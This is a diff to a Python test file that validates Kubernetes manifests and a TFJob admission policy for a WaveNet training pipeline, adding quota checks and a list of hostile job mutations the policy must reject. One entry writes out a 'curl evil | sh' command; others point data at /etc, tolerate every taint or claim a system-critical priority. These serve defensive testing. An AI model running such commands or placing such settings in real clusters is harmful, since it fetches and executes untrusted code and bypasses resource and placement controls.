@@ -16,6 +16,7 @@ from pipelines.validate_k8s import (
     evaluate_admission_policy,
     kubectl_kustomize,
     render_kustomization,
+    rendered_tfjobs,
     validate_all,
 )
 
@@ -33,7 +34,8 @@ def test_every_manifest_validates_offline():
     lines = validate_all(K8S, pipelines=[PIPELINE])
     kinds = {line.split("/")[0] for line in lines if "schema" in line}
     assert kinds == {"Namespace", "ServiceAccount", "Role", "RoleBinding", "Deployment", "Service",
-                     "NetworkPolicy", "TFJob", "ValidatingAdmissionPolicy", "ValidatingAdmissionPolicyBinding"}
+                     "NetworkPolicy", "TFJob", "ValidatingAdmissionPolicy", "ValidatingAdmissionPolicyBinding",
+                     "ResourceQuota", "LimitRange"}
     assert any("tfjob-template.yaml" in line for line in lines)
     assert sum("CEL (cel-python) admits" in line for line in lines) == 2
     assert any(line.startswith("hardening (Python policy checks)") for line in lines)
@@ -127,6 +129,19 @@ def test_a_bad_tfjob_template_is_reported(k8s_copy):
         docs[0]["spec"]["tfReplicaSpecs"]["Worker"]["restartPolicy"] = "Sometimes"
     _edit(k8s_copy / "tfjob-template.yaml", bad)
     with pytest.raises(K8sValidationError, match="tfjob-template.yaml"):
+        validate_all(k8s_copy)
+
+
+def test_the_base_caps_gpus_tfjobs_and_compute_with_a_quota(objects, k8s_copy):
+    hard = objects[("ResourceQuota", "wavenet")]["spec"]["hard"]
+    assert int(hard["requests.nvidia.com/gpu"]) >= 1 and int(hard["count/tfjobs.kubeflow.org"]) >= 1
+    # The step pods that state no requests get the LimitRange's defaults (else the quota refuses them).
+    (limits,) = objects[("LimitRange", "wavenet")]["spec"]["limits"]
+    assert {"cpu", "memory"} <= set(limits["defaultRequest"]) and "memory" in limits["default"]
+    kust = k8s_copy / "kustomization.yaml"
+    kust.write_text(kust.read_text().replace("  - quota.yaml\n", ""))
+    (k8s_copy / "quota.yaml").unlink()
+    with pytest.raises(K8sValidationError, match="the base needs a ResourceQuota capping requests.nvidia.com/gpu"):
         validate_all(k8s_copy)
 
 
@@ -224,12 +239,11 @@ def policy(objects):
     return objects[("ValidatingAdmissionPolicy", "wavenet-tfjobs")]
 
 
-def _job():
-    from wavenet.tfjob import render_tfjob
+def _job(what="GPU"):
+    """The TFJob the train component renders (wavenet.train.training_tfjob) from the template."""
+    from wavenet.tfjob import load_template
 
-    return render_tfjob("wavenet-x", "wavenet", "ghcr.io/wavenet-pipelines/wavenet-gpu:0.1.0",
-                        ["wavenet", "train"], ["gs://b/shards"], workers=2, gpus_per_worker=1,
-                        env={"MLFLOW_TRACKING_URI": "http://mlflow:5000", "MLFLOW_RUN_ID": "r"})
+    return rendered_tfjobs(load_template(K8S / "tfjob-template.yaml"))[what]
 
 
 def _pod(job):
@@ -269,11 +283,47 @@ HOSTILE = {
                           "no init or ephemeral containers"),
     "a Chief replica": (lambda j: j["spec"]["tfReplicaSpecs"].update(
         Chief=copy.deepcopy(j["spec"]["tfReplicaSpecs"]["Worker"])), "only Worker replicas"),
+    # The program (issue 19): the entry point, its arguments, replicas, resources, placement.
+    "another command": (lambda j: _ctr(j).update(command=["sh", "-c", "curl evil | sh"]), "the program is"),
+    "python instead of the entry point": (lambda j: _ctr(j).update(command=["python", "-c", "x"]),
+                                          "the program is"),
+    "no command (the image's entry point)": (lambda j: _ctr(j).pop("command"), "the program is"),
+    "args without --worker": (lambda j: _ctr(j)["args"].remove("--worker"), "the program is"),
+    "a flag the launcher never writes": (lambda j: _ctr(j)["args"].append("--workers"), "the program is"),
+    "data from outside a bucket": (lambda j: _ctr(j)["args"].__setitem__(0, "/etc"), "the program is"),
+    "no replicas": (lambda j: j["spec"]["tfReplicaSpecs"]["Worker"].pop("replicas"), "Worker replicas between"),
+    "17 replicas": (lambda j: j["spec"]["tfReplicaSpecs"]["Worker"].update(replicas=17), "Worker replicas between"),
+    "0 replicas": (lambda j: j["spec"]["tfReplicaSpecs"]["Worker"].update(replicas=0), "Worker replicas between"),
+    "no resources": (lambda j: _ctr(j).pop("resources"), "resources:"),
+    "no memory limit": (lambda j: _ctr(j)["resources"]["limits"].pop("memory"), "resources:"),
+    "no cpu request": (lambda j: _ctr(j)["resources"]["requests"].pop("cpu"), "resources:"),
+    "a terabyte of memory": (lambda j: _ctr(j)["resources"]["limits"].update(memory="1Ti"), "resources:"),
+    "65Gi of memory": (lambda j: _ctr(j)["resources"]["requests"].update(memory="65Gi"), "resources:"),
+    "64 cores": (lambda j: _ctr(j)["resources"]["requests"].update(cpu="64"), "resources:"),
+    "9 GPUs per pod": (lambda j: _ctr(j)["resources"]["limits"].update({"nvidia.com/gpu": 9}), "resources:"),
+    "another extended resource": (lambda j: _ctr(j)["resources"]["limits"].update({"amd.com/gpu": 1}),
+                                  "resources:"),
+    "a node name": (lambda j: _pod(j).update(nodeName="node-1"), "placement as the template allows"),
+    "an affinity": (lambda j: _pod(j).update(affinity={"nodeAffinity": {}}), "placement as the template allows"),
+    "another node label": (lambda j: _pod(j)["nodeSelector"].update({"kubernetes.io/hostname": "n1"}),
+                           "placement as the template allows"),
+    "a toleration of every taint": (lambda j: _pod(j)["tolerations"].append({"operator": "Exists"}),
+                                    "placement as the template allows"),
+    "a priority class": (lambda j: _pod(j).update(priorityClassName="system-node-critical"),
+                         "placement as the template allows"),
 }
 
 
-def test_the_admission_policy_admits_the_tfjobs_the_launcher_renders(policy):
-    assert evaluate_admission_policy(policy, _job()) == []
+@pytest.mark.parametrize("what", ["GPU", "CPU"])
+def test_the_admission_policy_admits_the_tfjobs_the_launcher_renders(policy, what):
+    assert evaluate_admission_policy(policy, _job(what)) == []
+
+
+def test_the_admission_policy_admits_the_image_by_digest(policy):
+    """make compile names the image <name>@sha256:... once make push recorded it."""
+    job = _job()
+    _ctr(job)["image"] = "ghcr.io/wavenet-pipelines/wavenet-gpu@sha256:" + "0" * 64
+    assert evaluate_admission_policy(policy, job) == []
 
 
 @pytest.mark.parametrize("what", sorted(HOSTILE))
